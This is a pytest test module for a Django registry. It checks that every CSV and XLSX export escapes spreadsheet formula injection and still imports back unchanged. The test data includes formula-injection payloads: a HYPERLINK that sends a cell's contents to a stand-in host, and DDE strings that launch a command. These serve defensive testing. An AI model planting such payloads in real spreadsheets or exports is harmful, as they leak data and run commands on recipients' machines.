"""No export carries a formula: a hostile value in every text field of every exported object,
then every cell of every CSV and XLSX the product writes is checked — list and report CSVs,
the registry's own export (API and admin), review exports with their About sheet — and the
registry's export still imports back to the same state.
"""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from django.contrib.auth import get_user_model
from django.contrib.postgres.fields import ArrayField
from django.db import models
from django.test import Client
from openpyxl import load_workbook

from registry import choices
from registry.models import (
    Alignment,
    Department,
    Goal,
    Initiative,
    Measurement,
    Person,
    Review,
    ReviewDecision,
    System,
    Tag,
    Vision,
)
from registry.spreadsheets import cells, exports, imports
from registry.sync import upsert as sync
from tests import factories
from tests.api.support import API, make_portfolio

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
]
# Identifiers that end up in URLs and lookups keep to characters a URL path holds.
URL_SAFE_HOSTILE = "=1+2"
EXPORTED_MODELS = [
    Department,
    Person,
    System,
    Tag,
    Vision,
    Goal,
    Measurement,
    Initiative,
    Alignment,
    Review,
    ReviewDecision,
]
# Values the registry generates or checks against a fixed form, never typed by a person.
GENERATED = {("initiative", "key"), ("review", "period"), ("initiative", "external_url")}


def hostile_value(field: models.Field, n: int) -> object:
    if isinstance(field, models.SlugField | models.EmailField) or field.name in ("code",):
        value = URL_SAFE_HOSTILE
        if isinstance(field, models.EmailField):
            value = f"{value}.{n}@example.com"
        elif field.unique:
            value = f"{value}-{n}"
        return value
    value = HOSTILE[n % len(HOSTILE)]
    if isinstance(field, ArrayField):
        return [value, "plain"]
    if field.max_length:
        value = value[: field.max_length]
    if field.unique or field.name == "external_id":  # (source, external_id) is unique
        value = f"{value[: (field.max_length or 200) - 6]}-{n}"
    return value


def text_fields(model: type[models.Model]) -> list[models.Field]:
    found = []
    for field in model._meta.concrete_fields:
        base = getattr(field, "base_field", field)
        if not isinstance(base, models.CharField | models.TextField) or base.choices:
            continue
        if (model._meta.model_name, field.name) in GENERATED:
            continue
        found.append(field)
    return found


def make_everything_hostile() -> int:
    """Every text field of every exported row gets a hostile value; the number written."""
    written = 0
    for model in EXPORTED_MODELS:
        fields = text_fields(model)
        for n, row in enumerate(model.objects.all()):
            for field in fields:
                setattr(row, field.attname, hostile_value(field, n + written))
            model.objects.filter(pk=row.pk).update(
                **{field.attname: getattr(row, field.attname) for field in fields}
            )
            written += len(fields)
    for n, user in enumerate(get_user_model().objects.all()):
        user.first_name, user.last_name = HOSTILE[n % len(HOSTILE)], HOSTILE[-1]
        user.save(update_fields=["first_name", "last_name"])
    for decision in ReviewDecision.objects.all():
        decision.snapshot = {
            **(decision.snapshot or {}),
            "name": HOSTILE[0],
            "primary_goal": HOSTILE[1],
            "lead_department": HOSTILE[4],
            "owner": {"name": HOSTILE[5], "email": "o@example.com"},
            "currency": "=1+",
        }
        decision.save(update_fields=["snapshot"])
    return written


def fill_every_report(portfolio) -> None:
    """Rows for the reports a small portfolio leaves empty: an uncovered goal, gate gaps
    (imported at pilot without its evidence), an overlap and a shared system."""
    factories.GoalFactory(vision=portfolio.vision, code="G-CES", title="Effortless contact")
    twin = {
        "kind": "chatbot",
        "stage": "pilot",
        "summary": "Answers billing and tariff questions in the chat around the clock.",
        "touchpoints": ["chat"],
        "journey_stages": ["support", "billing"],
        "systems": ["crm"],
        "alignments": [{"goal": "G-NPS", "strength": 3, "is_primary": True}],
    }
    result = sync.sync_batch(
        source="jira",
        items=[
            {
                **twin,
                "external_id": "T-1",
                "name": "Billing chat assistant",
                "lead_department": "service",
            },
            {
                **twin,
                "external_id": "T-2",
                "name": "Billing chat assistant",
                "lead_department": "marketing",
            },
        ],
    )
    assert result.counts()["created"] == 2, result.as_dict()


@pytest.fixture
def hostile():
    portfolio = make_portfolio()
    fill_every_report(portfolio)
    review = Review.objects.get()
    ReviewDecision.objects.filter(review=review).update(
        rationale=HOSTILE[2], decided_by=portfolio.users["pmo"]
    )
    Alignment.objects.update(expected_impact=Decimal("-12.5"))
    Measurement.objects.update(value=Decimal("-3"))
    assert make_everything_hostile() > 50
    return portfolio


# --- every export ---------------------------------------------------------------------------


def staff_client(portfolio) -> Client:
    user = portfolio.users["pmo"]
    user.is_staff = True
    user.save()
    client = Client()
    client.force_login(user)
    return client


def all_exports(portfolio) -> dict[str, bytes]:
    """Every CSV and XLSX the product writes, by a name for the assertion messages."""
    api = portfolio.client("pmo")
    files: dict[str, bytes] = {}

    def get(name: str, response) -> None:
        assert response.status_code == 200, (name, response.content[:300])
        files[name] = response.content

    get("list.csv", api.get(f"{API}initiatives/", {"format": "csv", "include_archived": "true"}))
    get("list-page.csv", api.get(f"{API}initiatives/", {"format": "csv", "page_size": 2}))
    for extension in ("csv", "xlsx"):
        get(f"export.{extension}", api.get(f"{API}initiatives/export/", {"format": extension}))
    report_names = [
        "portfolio",
        "alignment-matrix",
        "goal-progress",
        "coverage",
        "silos",
        "overlaps",
        "systems",
        "gate-gaps",
    ]
    for name in report_names:
        get(f"report-{name}.csv", api.get(f"{API}reports/{name}/", {"format": "csv"}))
    admin = staff_client(portfolio)
    ids = list(Initiative.objects.values_list("pk", flat=True))
    for action in ("export_selected_csv", "export_selected_xlsx"):
        get(
            f"admin-{action}",
            admin.post("/admin/registry/initiative/", {"action": action, "_selected_action": ids}),
        )
    review = Review.objects.get()
    for extension in ("csv", "xlsx"):
        get(
            f"review.{extension}",
            admin.get(f"/admin/registry/board/reviews/{review.pk}/export.{extension}"),
        )
    return files


def cells_of(name: str, content: bytes) -> list[tuple[str, object, str | None]]:
    """(where, value, data type) of every cell of a file."""
    if content.startswith(b"PK"):
        workbook = load_workbook(io.BytesIO(content))
        return [
            (f"{name}!{sheet.title}!{cell.coordinate}", cell.value, cell.data_type)
            for sheet in workbook.worksheets
            for row in sheet.iter_rows()
            for cell in row
        ]
    text = content.decode("utf-8-sig")
    return [
        (f"{name}:{r}:{c}", value, None)
        for r, row in enumerate(csv.reader(io.StringIO(text)))
        for c, value in enumerate(row)
    ]


def runs_as_formula(value: object) -> bool:
    if not isinstance(value, str) or not value.startswith(cells.FORMULA_STARTS):
        return False
    return cells.NUMBER.fullmatch(value) is None


def test_no_cell_of_any_export_is_a_formula(hostile):
    files = all_exports(hostile)
    escaped: dict[str, int] = {}
    for name, content in files.items():
        every_cell = cells_of(name, content)
        assert every_cell, name
        for where, value, data_type in every_cell:
            assert data_type != "f", where
            assert not runs_as_formula(value), (where, value)
            if isinstance(value, str) and value.startswith("'") and len(value) > 1:
                escaped[name] = escaped.get(name, 0) + 1
    # The hostile values are in there (escaped), so the check above is not vacuous.
    assert set(escaped) == set(files), set(files) - set(escaped)
    review = cells_of("review.xlsx", files["review.xlsx"])
    about = {where: value for where, value, _type in review if "!About!" in where}
    assert about[next(w for w in about if w.endswith("!B1"))].startswith("'")  # vision title
    assert about[next(w for w in about if w.endswith("!B5"))].startswith("'")  # summary


def test_the_registry_export_reads_back_to_the_same_state():
    """Quoted, signed and formula-like texts come back exactly, from CSV and XLSX."""
    portfolio = make_portfolio()
    texts = ['=HYPERLINK("http://evil")', "'=already quoted", "''+2", "-5", "@vip -x"]
    for initiative, text in zip(Initiative.objects.order_by("pk"), texts, strict=False):
        Initiative.objects.filter(pk=initiative.pk).update(name=text, learnings=text)
    api = portfolio.client("pmo")
    for extension in ("csv", "xlsx"):
        content = api.get(f"{API}initiatives/export/", {"format": extension}).content
        report = imports.import_file(
            content,
            mapping=imports.load_mapping(exports.MAPPING_NAME),
            source=exports.DEFAULT_SOURCE,
            filename=f"export.{extension}",
        )
        counts = report.counts()
        assert report.rejections() == [], extension
        assert counts["unchanged"] == counts["rows"], (extension, counts)
    assert set(texts) <= set(Initiative.objects.values_list("name", flat=True))


@pytest.mark.parametrize("space", ["\t", "\r", "\n", " ", "\r\n"])
def test_sync_trims_text_as_the_api_does(space):
    """Sync kept the leading white space the API trims: `\\t=…` reached the export."""
    portfolio = make_portfolio()
    body = {
        "name": f"{space}=HYPERLINK(1){space}",
        "kind": "chatbot",
        "summary": f"{space}=1+1",
        "customer_segments": [f"{space}@vip"],
        "alignments": [{"goal": "G-NPS", "rationale": f"{space}-x"}],
    }
    synced = portfolio.client("integration").put(f"{API}initiatives/sync/jira/W-1/", body)
    assert synced.status_code == 201, synced.content[:300]
    posted = portfolio.client("pmo").post(
        f"{API}initiatives/", {k: v for k, v in body.items() if k != "alignments"}
    )
    assert posted.status_code == 201, posted.content[:300]
    for key in (synced.json()["key"], posted.json()["key"]):
        initiative = Initiative.objects.get(key=key)
        assert initiative.name == "=HYPERLINK(1)"
        assert initiative.summary == "=1+1"
        assert initiative.customer_segments == ["@vip"]
    assert Alignment.objects.get(initiative__external_id="W-1").rationale == "-x"


@pytest.mark.parametrize(
    "text",
    ["=1+1", "+1+1", "-1+1", "@A1", "\t=1", "\r=1", "'=1", "''-x", "-", "plain", "", "-12.5", "+3"],
)
def test_escaping_is_undone_by_the_import(text):
    escaped = cells.escape_formula(text)
    assert not runs_as_formula(escaped)
    assert cells.unescape_formula(escaped) == text


def test_the_stage_and_vocabulary_cells_stay_readable(hostile):
    """Only text that could run is touched: labels and codes are exported as they are."""
    content = hostile.client("pmo").get(f"{API}initiatives/export/", {"format": "csv"}).content
    table = list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))
    assert {row["stage"] for row in table} <= set(choices.Stage.values)
    assert all(row["key"].startswith("AI-") for row in table)


def test_every_exported_model_had_text_to_make_hostile(hostile):
    """A model added to an export without text fields here would escape the check above."""
    for model in EXPORTED_MODELS:
        assert text_fields(model), model
        assert model.objects.exists(), model
    assert Vision.objects.filter(title__in=HOSTILE).exists()
    assert Goal.objects.filter(title__in=HOSTILE).exists()
